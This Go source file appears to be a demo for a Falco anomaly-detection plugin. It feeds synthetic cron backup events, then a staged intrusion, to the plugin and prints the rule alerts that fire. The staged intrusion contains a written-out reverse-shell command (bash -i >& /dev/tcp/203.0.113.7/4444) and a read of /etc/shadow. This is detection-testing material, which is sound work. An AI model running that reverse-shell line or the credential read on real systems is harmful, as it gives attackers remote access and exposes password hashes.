// Command addemo runs the built plugin in the in-repo host on a built-in
// workload and prints, like Falco rule outputs, what rules on the
// anomaly.* fields would report.
//
// The workload: cron starts a backup job every minute for five hours; the
// job's shell runs tar, which reads its configuration. Late in the run, a
// web server spawns a shell that opens a reverse shell, which reads
// /etc/shadow. The routine behavior is counted hundreds of times and goes
// quiet after the warm-up; the rare one is reported with count 1.
package main

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"time"

	"github.com/falco-anomalydetection/anomalydetection/internal/event"
	"github.com/falco-anomalydetection/anomalydetection/internal/host"
)

const config = `{"count_min_sketch": {"enabled": true, "behavior_profiles": [
 {"name": "process_lineage",
  "fields": "%container.id %proc.name %proc.aname[1] %proc.aname[2] %proc.aname[3] %proc.exepath %proc.tty %proc.vpgid.name %proc.sname",
  "event_codes": ["execve", "execveat"]},
 {"name": "file_access",
  "fields": "%container.id %proc.name %proc.aname[1] %proc.aname[2] %proc.aname[3] %proc.exepath %proc.tty %proc.vpgid.name %proc.sname %fd.name",
  "event_codes": ["open", "openat", "openat2"]},
 {"name": "command_line", "fields": "%container.id %proc.args",
  "event_codes": ["execve", "execveat"], "reset_timer_ms": 3600000}]}}`

// A rule of the demo: its condition on one profile's count, after the
// warm-up, on the event types the profile counts.
type rule struct {
	name, profile string
	max           uint64
	onExec        bool
}

var rules = []rule{
	{"Rare process lineage", "process_lineage", 5, true},
	{"Rare file opened by process", "file_access", 5, false},
}

const warmup = 10 * time.Minute

func main() {
	lib := flag.String("lib", "./libanomalydetection.so", "the plugin library")
	gen := flag.String("gen", "3.12", "host generation: 3.2 (Falco 0.37) or 3.12 (Falco 0.42+)")
	jobs := flag.Int("jobs", 300, "how many times the routine job runs (one a minute)")
	flag.Parse()
	if err := run(*lib, *gen, *jobs); err != nil {
		fmt.Fprintln(os.Stderr, "addemo:", err)
		os.Exit(1)
	}
}

func run(lib, genName string, jobs int) error {
	g := host.Gen312
	if genName == "3.2" {
		g = host.Gen32
	}
	p, err := host.Open(lib, g)
	if err != nil {
		return err
	}
	defer p.Destroy()
	if err := p.Init(config); err != nil {
		return err
	}
	// What the plugin logged at init, as Falco would print it (hosts
	// without a log callback got it on stderr).
	for _, l := range p.Logs() {
		fmt.Fprintf(os.Stderr, "%s: %s\n", l.Component, l.Message)
	}
	fmt.Printf("anomalydetection demo: %s host (Falco %s), %d routine jobs, rules after a %s warm-up\n\n",
		g.Name, g.Falco, jobs, warmup)

	w := &workload{p: p, start: uint64(time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC).UnixNano())}
	if err := w.setup(); err != nil {
		return err
	}
	for i := 0; i < jobs; i++ {
		if err := w.job(i); err != nil {
			return err
		}
		if i == jobs*2/3 {
			if err := w.intrusion(); err != nil {
				return err
			}
		}
	}
	fmt.Printf("\n%d events, %d alerts. Final routine counts: lineage %d, file %d.\n",
		w.evtnum, w.alerts, w.last["process_lineage"], w.last["file_access"])
	return nil
}

type workload struct {
	p      *host.Plugin
	start  uint64
	ts     uint64
	evtnum uint64
	alerts int
	last   map[string]uint64
}

func proc(tid, ptid int64, comm, exe, path string, args ...string) host.Thread {
	return host.Thread{
		Tid: tid, Pid: tid, Ptid: ptid, Sid: 1, Vtid: tid, Vpid: tid, Vpgid: tid, Pgid: tid,
		Comm: comm, Exe: exe, ExePath: path, Cwd: "/", Root: "/", Flags: 1 << 30,
		Args: args, Env: []string{"PATH=/usr/bin:/bin"}, LoginUID: 4294967295,
	}
}

func (w *workload) setup() error {
	w.last = map[string]uint64{}
	for _, th := range []host.Thread{
		proc(1, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd"),
		proc(700, 1, "cron", "/usr/sbin/cron", "/usr/sbin/cron", "-f"),
		proc(800, 1, "nginx", "nginx", "/usr/sbin/nginx"),
		proc(810, 800, "nginx", "nginx", "/usr/sbin/nginx"),
	} {
		if err := w.p.Threads().PutThread(th); err != nil {
			return err
		}
	}
	return nil
}

// job is one run of the cron job: sh -c backup.sh, then tar reading its
// configuration. Pids change every run.
func (w *workload) job(i int) error {
	w.ts = w.start + uint64(i)*uint64(time.Minute)
	sh, tar := int64(10000+2*i), int64(10001+2*i)
	if err := w.exec(proc(sh, 700, "sh", "/bin/sh", "/usr/bin/dash", "-c", "/usr/local/bin/backup.sh")); err != nil {
		return err
	}
	if err := w.exec(proc(tar, sh, "tar", "tar", "/usr/bin/tar", "czf", "/backup/etc.tgz", "/etc")); err != nil {
		return err
	}
	if err := w.open(tar, 3, "/etc/backup.conf"); err != nil {
		return err
	}
	w.p.Threads().Delete(tar)
	w.p.Threads().Delete(sh)
	return nil
}

// intrusion is the rare behavior: the web server's worker starts a shell
// that opens a reverse shell and reads /etc/shadow.
func (w *workload) intrusion() error {
	w.ts += uint64(17 * time.Second)
	if err := w.exec(proc(9001, 810, "sh", "/bin/sh", "/usr/bin/dash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")); err != nil {
		return err
	}
	if err := w.exec(proc(9002, 9001, "bash", "bash", "/usr/bin/bash", "-i")); err != nil {
		return err
	}
	return w.open(9002, 5, "/etc/shadow")
}

func (w *workload) exec(th host.Thread) error {
	if err := w.p.Threads().PutThread(th); err != nil {
		return err
	}
	raw := event.EncodeExecve(event.ExecEvent{
		TS: w.ts, Tid: th.Tid, Pid: th.Pid, Ptid: th.Ptid, Exe: th.Exe, Args: th.Args,
		Cwd: th.Cwd, Comm: th.Comm, Env: th.Env, Vpgid: th.Vpgid, LoginUID: th.LoginUID,
		Pgid: th.Pgid, Filename: th.ExePath, TrustedExePath: th.ExePath,
	})
	return w.event(raw, th, true)
}

func (w *workload) open(tid, fd int64, path string) error {
	if err := w.p.Threads().PutFD(tid, host.FD{Num: fd, Type: 1, Name: path, NameRaw: path}); err != nil &&
		w.p.Gen().HasSubTables() {
		return err
	}
	raw := event.EncodeOpenat(event.FileEvent{TS: w.ts + 1000, Tid: tid, FD: fd, DirFD: -100, Path: path})
	return w.event(raw, host.Thread{Tid: tid}, false)
}

// event parses one event and evaluates the rules on it as Falco would:
// condition first, output fields only when it matches.
func (w *workload) event(raw []byte, th host.Thread, exec bool) error {
	w.evtnum++
	w.ts += 1000
	if err := w.p.Parse(raw, w.evtnum); err != nil {
		return err
	}
	age, err := w.u64(raw, "anomaly.falco.duration_ns")
	if err != nil {
		return err
	}
	for _, r := range rules {
		if r.onExec != exec {
			continue
		}
		count, err := w.u64(raw, "anomaly.count_min_sketch["+r.profile+"]")
		if err != nil {
			return err
		}
		w.last[r.profile] = count
		if time.Duration(age) < warmup || count > r.max {
			continue
		}
		if err := w.alert(raw, r, count); err != nil {
			return err
		}
	}
	return nil
}

func (w *workload) u64(raw []byte, field string) (uint64, error) {
	v, ok, err := w.p.Extract(raw, w.evtnum, field)
	if err != nil || !ok {
		return 0, fmt.Errorf("%s: no value (%v)", field, err)
	}
	var n uint64
	_, err = fmt.Sscan(v.Text(), &n)
	return n, err
}

func (w *workload) alert(raw []byte, r rule, count uint64) error {
	v, _, err := w.p.Extract(raw, w.evtnum, "anomaly.count_min_sketch.profile["+r.profile+"]")
	if err != nil {
		return err
	}
	args, _, err := w.p.Extract(raw, w.evtnum, "anomaly.count_min_sketch.profile[command_line]")
	if err != nil {
		return err
	}
	w.alerts++
	when := time.Unix(0, int64(w.ts)).UTC().Format("15:04:05.000000000")
	fmt.Printf("%s: Notice %s (count=%d profile=%q args=%q)\n",
		when, r.name, count, strings.TrimSpace(v.Text()), strings.TrimSpace(args.Text()))
	return nil
}
